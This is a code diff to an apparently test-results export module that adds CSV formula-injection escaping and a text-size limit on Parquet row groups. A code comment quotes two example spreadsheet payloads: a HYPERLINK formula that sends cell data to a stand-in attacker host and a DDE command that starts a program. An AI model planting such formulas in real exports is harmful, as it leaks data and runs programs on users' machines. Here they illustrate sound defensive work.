@@ -25,6 +25,9 @@ MEDIA_TYPES = {
 # Parquet row groups: big enough for good compression and fast scans, small enough that one
 # group's columns (the only thing held) stay a few tens of MB.
 PARQUET_ROW_GROUP = 65536
+# ...and a group is written once its error messages reach this much text, whatever its rows:
+# 65,536 messages of 1 MB each would be 64 GB held.
+PARQUET_GROUP_TEXT_CHARS = 64 * 1024 * 1024
 PARQUET_MISSING = (
     "Parquet export needs pyarrow, which this installation lacks (the one-file executable leaves it out: "
     "it is larger than the executable itself). Install the extra with pip install 'qahub-lite[parquet]', "
@@ -44,7 +47,7 @@ def require_parquet():
 
 # Positions in the row tuple of export_rows.ROWS_SQL: flaky is 0/1 there and a boolean out
 # here; executed_at (the last) is epoch ms there and ISO 8601 text out here.
-_FLAKY, _EXECUTED = 8, 13
+_FLAKY, _ERROR, _EXECUTED = 8, 11, 13
 
 _TYPES = {"line": int, "test_id": int, "result_id": int, "attempts": int, "duration_ms": int, "flaky": bool}
 # One NDJSON line: a Struct built positionally encodes several times faster than a dict.
@@ -57,6 +60,19 @@ def encode_ndjson(run: RunContext, rows: list[tuple], iso: IsoTimes) -> bytes:
     return _encoder.encode_lines([
         line(*prefix, *r[:_FLAKY], r[_FLAKY] == 1, *r[_FLAKY + 1:_EXECUTED], iso(r[_EXECUTED])) for r in rows
     ])
+
+
+# A cell a spreadsheet would run as a formula: `=HYPERLINK("https://evil.example/?"&A2, "open")`
+# as a test title (any write key can send one) sends the neighbouring cells away when the
+# export is opened, `=cmd|' /C calc'!A0` asks to start a program. Such a cell gets a leading
+# apostrophe (OWASP's advice), which spreadsheets read as "this is text"; NDJSON and Parquet
+# keep every value exactly as stored.
+_FORMULA_START = frozenset("=+-@\t\r")
+_TEXT_CELLS = (1, 2, 3, 4, 11, 12)  # test_case_code, suite, title, file, error_message, framework
+
+
+def _cell(value):
+    return "'" + value if value and value[0] in _FORMULA_START else value
 
 
 def _csv_line(values) -> str:
@@ -73,12 +89,18 @@ def encode_csv(run: RunContext, rows: list[tuple], iso: IsoTimes) -> bytes:
     """RFC 4180: CRLF line ends, quotes doubled; empty for a missing value (None); flaky as
     true/false. The run's columns are the same on every row of a chunk: encoded once, written
     as text before each row (twice as fast as encoding them again per row)."""
-    prefix = _csv_line(run_values(run))[:-2] + ","
-    flags = ("false", "true")
+    prefix = _csv_line([_cell(v) if isinstance(v, str) else v for v in run_values(run)])[:-2] + ","
+    flags, starts = ("false", "true"), _FORMULA_START
     buffer = io.StringIO()
     put, row_out = buffer.write, csv.writer(buffer, lineterminator="\r\n").writerow
     for r in rows:
         put(prefix)
+        # The first characters tested inline: a call per cell would cost a third of the encoding.
+        code, suite, title, file, message, framework = r[1], r[2], r[3], r[4], r[11], r[12]
+        if ((code and code[0] in starts) or (suite and suite[0] in starts) or (title and title[0] in starts)
+                or (file and file[0] in starts) or (message and message[0] in starts)
+                or (framework and framework[0] in starts)):
+            r = [_cell(v) if i in _TEXT_CELLS else v for i, v in enumerate(r)]
         row_out((*r[:_FLAKY], flags[r[_FLAKY]], *r[_FLAKY + 1:_EXECUTED], iso(r[_EXECUTED])))
     return buffer.getvalue().encode()
 
@@ -154,13 +176,13 @@ async def _parquet(db, f: ResultFilter) -> AsyncIterator[bytes]:
     sink = _Drain()
     writer = pq.ParquetWriter(pa.PythonFile(sink, mode="w"), schema, compression="zstd")
     columns: list[list] = [[] for _ in FIELDS]
-    held = 0
+    held = held_text = 0
 
     def flush_group() -> None:
-        nonlocal columns, held
+        nonlocal columns, held, held_text
         writer.write_table(pa.Table.from_arrays([pa.array(c, type=t) for c, t in zip(columns, schema.types)],
                                                 schema=schema))
-        columns, held = [[] for _ in FIELDS], 0
+        columns, held, held_text = [[] for _ in FIELDS], 0, 0
 
     async for run, rows in iter_chunks(db, f):
         # Column by column (a transpose in C), not value by value: three times faster.
@@ -173,7 +195,8 @@ async def _parquet(db, f: ResultFilter) -> AsyncIterator[bytes]:
         for column, values in zip(columns[len(RUN_FIELDS):], result_columns):
             column.extend(values)
         held += n
-        if held >= PARQUET_ROW_GROUP:
+        held_text += sum(len(message) for message in result_columns[_ERROR] if message)
+        if held >= PARQUET_ROW_GROUP or held_text >= PARQUET_GROUP_TEXT_CHARS:
             flush_group()
             yield sink.drain()
     if held:
